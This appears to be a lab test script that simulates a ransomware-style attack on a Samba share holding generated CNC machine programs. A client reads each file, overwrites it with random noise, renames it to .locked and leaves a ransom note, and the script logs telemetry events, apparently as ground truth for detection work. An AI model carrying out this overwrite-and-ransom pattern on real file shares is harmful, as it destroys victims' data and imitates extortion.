# A notebook nobody knows reads the programs on the plant's server, writes noise over each, gives it another ending, and
# leaves a note.
# hosts: srv-plant notebook9
# peers: samba smbclient
# tools: smbd smbclient smbpasswd

. "$LAB/samba.sh"
server=$(address srv-plant)
samba_serve srv-plant SRV-PLANT
cd "$state/work"
commands=
for i in $(seq 24); do
	name=$(printf 'O%04d.NC' "$i")
	awk -v n="$i" 'BEGIN { printf "%%\nO%04d\n", n; for (i = 0; i < 80 + n * 4; i++) printf "N%d G01 X%d Z%d\n", i, i * n % 97, i
		print "M30\n%" }' >"$name"
	cp "$name" "$state/share/$name"
	head -c "$(stat -c %s "$name")" /dev/urandom >"$name.noise"
	commands="$commands get $name $name.got; put $name.noise $name; rename $name $name.locked;"
done
printf 'YOUR FILES ARE ENCRYPTED. Write to nobody@example.invalid\r\n' >README_RESTORE.txt
samba_talk notebook9 NOTEBOOK9 "$commands put README_RESTORE.txt; ls"
for i in $(seq 24); do
	name=$(printf 'O%04d.NC' "$i")
	cmp "$name" "$name.got"
	tell_file read notebook9 srv-plant "$name" "$name"
	tell_file write notebook9 srv-plant "$name" "$name.noise"
	tell "{\"action\":\"file-rename\",\"actor\":\"$(address notebook9)\",\"device\":\"$server\",\"name\":\"$name\",\"outcome\":\"done\"}"
done
tell_file write notebook9 srv-plant README_RESTORE.txt README_RESTORE.txt
tell '{"fact":"secret","value":"geheim-7"}'
cd "$LAB"
